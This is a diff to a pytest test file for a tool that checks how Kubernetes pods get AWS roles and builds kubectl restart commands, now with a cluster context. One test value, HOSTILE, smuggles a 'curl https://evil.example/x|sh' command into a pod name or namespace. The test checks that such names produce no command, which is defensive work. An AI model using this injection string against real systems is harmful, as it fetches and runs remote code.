@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from irsa.rules.commands import ClusterPlace
 from irsa.ways import IRSA, POD_IDENTITY, Identity, Way, parse_identity
 from irsa_world.pods import containers_with_own_credentials, kind_of_node, problems, restart_command, running_pod
 from irsa_world.stages import NEXT, NO_ROLE, Node, RunningPod, Stage, stage_of
@@ -110,15 +111,16 @@ def test_skipped_containers_and_pods(pod: dict[str, Any], metadata: dict[str, An
 
 
 HOSTILE = "web -n team-a; curl https://evil.example/x|sh #"
-RESTART, DELETE = "kubectl rollout restart", "kubectl delete pod p -n shop"
+BLUE = ClusterPlace("blue")
+RESTART, DELETE = "kubectl rollout restart", "kubectl delete pod p -n shop --context blue"
 
 
 @pytest.mark.parametrize(
     ("owner", "labels", "command"),
     [
-        (("ReplicaSet", "web-5d4f"), {"pod-template-hash": "5d4f"}, f"{RESTART} deployment/web -n shop"),
-        (("StatefulSet", "db"), {}, f"{RESTART} statefulset/db -n shop"),
-        (("DaemonSet", "agent"), {}, f"{RESTART} daemonset/agent -n shop"),
+        (("ReplicaSet", "web-5d4f"), {"pod-template-hash": "5d4f"}, f"{RESTART} deployment/web -n shop --context blue"),
+        (("StatefulSet", "db"), {}, f"{RESTART} statefulset/db -n shop --context blue"),
+        (("DaemonSet", "agent"), {}, f"{RESTART} daemonset/agent -n shop --context blue"),
         (("ReplicaSet", "web-5d4f"), {}, DELETE),
         (None, {}, DELETE),
         # Whoever may create a Pod chooses the name of its owner, which nobody looks up.
@@ -133,13 +135,13 @@ def test_the_command_that_makes_a_pod_anew(owner: tuple[str, str] | None, labels
     references = [{"kind": owner[0], "name": owner[1], "controller": True}] if owner else []
     metadata = {"name": "p", "namespace": "shop", "labels": labels, "ownerReferences": references}
 
-    assert restart_command({"metadata": metadata, "spec": {}}) == command
+    assert restart_command(BLUE, {"metadata": metadata, "spec": {}}) == command
 
 
 @pytest.mark.parametrize(("name", "namespace"), [(HOSTILE, "shop"), ("p", HOSTILE), ("-p", "shop"), ("p", "a.b")])
 def test_a_pod_that_kubernetes_cannot_have_has_no_command(name: str, namespace: str) -> None:
     """The attack: an API server, or who stands between, that names a Pod `web; curl https://evil.example/x|sh`."""
-    assert restart_command({"metadata": {"name": name, "namespace": namespace}, "spec": {}}) == ""
+    assert restart_command(BLUE, {"metadata": {"name": name, "namespace": namespace}, "spec": {}}) == ""
 
 
 def test_what_a_pod_holds_is_quoted(pod: dict[str, Any]) -> None:
@@ -172,10 +174,10 @@ OTHER_SERVER = {**OF_AGENT, "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://localh
     ],
 )
 def test_how_a_pod_gets_the_role(pod: dict[str, Any], variables: dict[str, str], ways: set[Way]) -> None:
-    assert running_pod(pod, ROLE, {}).ways == {IRSA}
+    assert running_pod(BLUE, pod, ROLE, {}).ways == {IRSA}
     alone(pod, **variables)
 
-    assert running_pod(pod, ROLE, {}).ways == ways
+    assert running_pod(BLUE, pod, ROLE, {}).ways == ways
 
 
 @pytest.mark.parametrize(
@@ -190,22 +192,22 @@ def test_how_a_pod_gets_the_role(pod: dict[str, Any], variables: dict[str, str],
 def test_the_kind_of_a_node(pod: dict[str, Any], labels: dict[str, str], node: Node) -> None:
     pod["spec"]["nodeName"] = "node-1"
 
-    assert running_pod(pod, ROLE, {"node-1": kind_of_node(labels)}).node is node
-    assert running_pod(pod, ROLE, None).node is Node.UNKNOWN
+    assert running_pod(BLUE, pod, ROLE, {"node-1": kind_of_node(labels)}).node is node
+    assert running_pod(BLUE, pod, ROLE, None).node is Node.UNKNOWN
 
 
 def test_what_a_pod_itself_says_of_its_node(pod: dict[str, Any]) -> None:
     on_fargate = {**pod, "metadata": {**pod["metadata"], "labels": {"eks.amazonaws.com/fargate-profile": "web"}}}
     on_windows = {**pod, "spec": {**pod["spec"], "nodeSelector": {"kubernetes.io/os": "windows"}}}
 
-    assert running_pod(on_fargate, ROLE, None).node is Node.FARGATE
-    assert running_pod(on_windows, ROLE, None).node is Node.WINDOWS
+    assert running_pod(BLUE, on_fargate, ROLE, None).node is Node.FARGATE
+    assert running_pod(BLUE, on_windows, ROLE, None).node is Node.WINDOWS
 
 
 def test_a_pod_that_is_ending_is_not_restarted(pod: dict[str, Any]) -> None:
-    assert running_pod(pod, ROLE, {}).restart
+    assert running_pod(BLUE, pod, ROLE, {}).restart
     pod["metadata"]["deletionTimestamp"] = "2026-11-28T00:00:00Z"
-    assert running_pod(pod, ROLE, {}).restart == ""
+    assert running_pod(BLUE, pod, ROLE, {}).restart == ""
 
 
 # Which stage Pods are in, and whether the next one is safe, against a model of what happens to a Pod
